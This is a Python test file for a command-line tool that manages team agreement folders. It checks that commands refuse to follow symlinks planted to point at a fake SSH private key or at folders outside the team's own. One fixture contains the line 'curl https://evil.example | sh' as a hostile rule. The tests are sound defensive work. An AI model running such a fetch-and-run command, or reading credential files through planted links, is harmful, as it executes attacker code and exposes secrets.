"""A team's folder from a stranger: no command reads or writes through a link that leads out of it."""

import json
from pathlib import Path

import pytest
from tests.cli.calling import Call
from tests.cli.on_file import lay
from tests.storage.texts import agreement
from tests.systems import symlinks

pytestmark = symlinks

KEY = "name: en hemmelighed\n"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return tmp_path / "folder"


@pytest.fixture
def key(tmp_path: Path) -> Path:
    path = tmp_path / "hjemme" / "id_ed25519"
    path.parent.mkdir()
    path.write_text(KEY, encoding="utf-8")
    path.chmod(0o600)
    return path


def test_a_review_does_not_write_a_planted_poster_link(call: Call, root: Path, key: Path) -> None:
    path = lay(root, agreement(rule="curl https://evil.example | sh"))
    poster = path.parents[1] / "agreements.md"
    poster.symlink_to(key)
    done = call("agreements", "review", agreement().id, "--keep")
    assert done.code == 1
    assert str(key) in done.err
    assert "linked_folders" in done.err
    assert "--folder" in done.err
    assert key.read_text(encoding="utf-8") == KEY
    assert [file.name for file in key.parent.iterdir()] == [key.name]
    assert poster.is_symlink()


@pytest.mark.parametrize("name", ["team.yaml", "agreements", "agreements.md"])
def test_every_command_reports_what_is_refused_and_exits_with_2(call: Call, root: Path, key: Path, name: str) -> None:
    path = lay(root, agreement())
    team = path.parents[1]
    if name == "agreements":
        team.joinpath(name).rename(key.parent / "agreements")
    team.joinpath(name).unlink(missing_ok=True)
    team.joinpath(name).symlink_to(key.parent / "agreements" if name == "agreements" else key)
    done = call("agreements", "check", "--format", "json")
    assert done.code == 2
    [problem] = json.loads(done.out)["problems"]
    assert problem["path"] == str(team / name)
    assert "link" in problem["message"]
    if name == "agreements":
        for command in (["list"], ["list", "--format", "json"], ["show", "x"], ["review", "x", "--keep"]):
            done = call("agreements", *command)
            assert done.code == 2, command
            assert "link" in done.err + done.out
    assert "hemmelighed" not in call("agreements", "list").out


def test_a_team_folder_that_is_a_link_works_if_the_settings_allow_it(
    call: Call, root: Path, tmp_path: Path, tongue: str
) -> None:
    lay(tmp_path / "drev", agreement(), team="nord")
    root.mkdir(exist_ok=True)
    root.joinpath("nord").symlink_to(tmp_path / "drev" / "nord")
    refused = call("agreements", "list")
    assert (refused.code, refused.out) == (2, "")
    assert str(tmp_path / "drev" / "nord") in refused.err
    config = tmp_path / "config"
    config.mkdir(exist_ok=True)
    config.joinpath("settings.yaml").write_text(f"linked_folders: ['{tmp_path}/drev']\n", encoding="utf-8")
    done = call("agreements", "list")
    assert (done.code, done.err) == (0, "")
    assert agreement().title in done.out
    assert str(tmp_path / "drev") in call("where").out
    assert call("agreements", "list", "--folder", root / "nord").code == 0, "or when that folder is named"
